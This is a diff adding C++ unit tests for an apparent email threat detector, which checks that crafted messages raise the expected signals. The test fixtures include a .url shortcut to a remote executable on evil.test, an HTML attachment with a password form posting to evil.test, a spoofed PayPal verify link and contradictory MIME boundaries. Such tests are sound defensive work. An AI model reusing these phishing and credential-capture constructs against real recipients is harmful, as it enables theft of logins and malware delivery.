@@ -139,6 +139,42 @@ TEST(Signals, NameTheirPlace) {
   }
 }
 
+std::string with_file(std::string_view name, std::string_view bytes) {
+  return fmt::format(
+      "From: Sana <sana@northgate.example>\r\nTo: a@ministry.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
+      "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nhello\r\n--x\r\nContent-Type: "
+      "application/octet-stream; name=\"{}\"\r\n\r\n{}\r\n--x--\r\n",
+      name, bytes);
+}
+
+TEST(Signals, AShortcutToAPageIsNoProgram) {
+  const auto page = found_in(with_file("a.url", "[InternetShortcut]\nURL=https://northgate.example/\n"));
+  EXPECT_GT(strength(page, Code::file_shortcut), 0);
+  EXPECT_EQ(strength(page, Code::file_executable), 0);
+  const auto file = found_in(with_file("a.url", "[InternetShortcut]\nURL=file://evil.test/a.exe\n"));
+  EXPECT_GT(strength(file, Code::file_executable), 0);
+}
+
+TEST(Signals, NameTheFile) {
+  const auto found =
+      found_in(with_file("bill.html", "<form action=https://evil.test/><input type=password></form>"));
+  for (const auto& signal : found)
+    if (kind_of(signal.code).family == Family::attachments) {
+      EXPECT_NE(signal.evidence.find("bill.html"), std::string::npos)
+          << kind_of(signal.code).code << " " << signal.evidence;
+    }
+  EXPECT_GT(strength(found, Code::file_web_form), 0);
+}
+
+TEST(Signals, OfWhatIsBuiltToBeReadInTwoWays) {
+  EXPECT_EQ(
+      strength(found_in("From: Sana <sana@northgate.example>\r\nContent-Type: multipart/mixed; boundary=a; "
+                        "boundary=b\r\n\r\n--a\r\n\r\nx\r\n--a--\r\n"),
+               Code::parts_contradict),
+      1);
+  EXPECT_EQ(strength(found_in(with_file("a.txt", "x")), Code::parts_contradict), 0);
+}
+
 TEST(Signals, AreTheSameEachTime) {
   const auto text =
       page("PayPal <service@northgate.example>", "Your account", "<a href='https://evil.test/x'>Verify</a>");
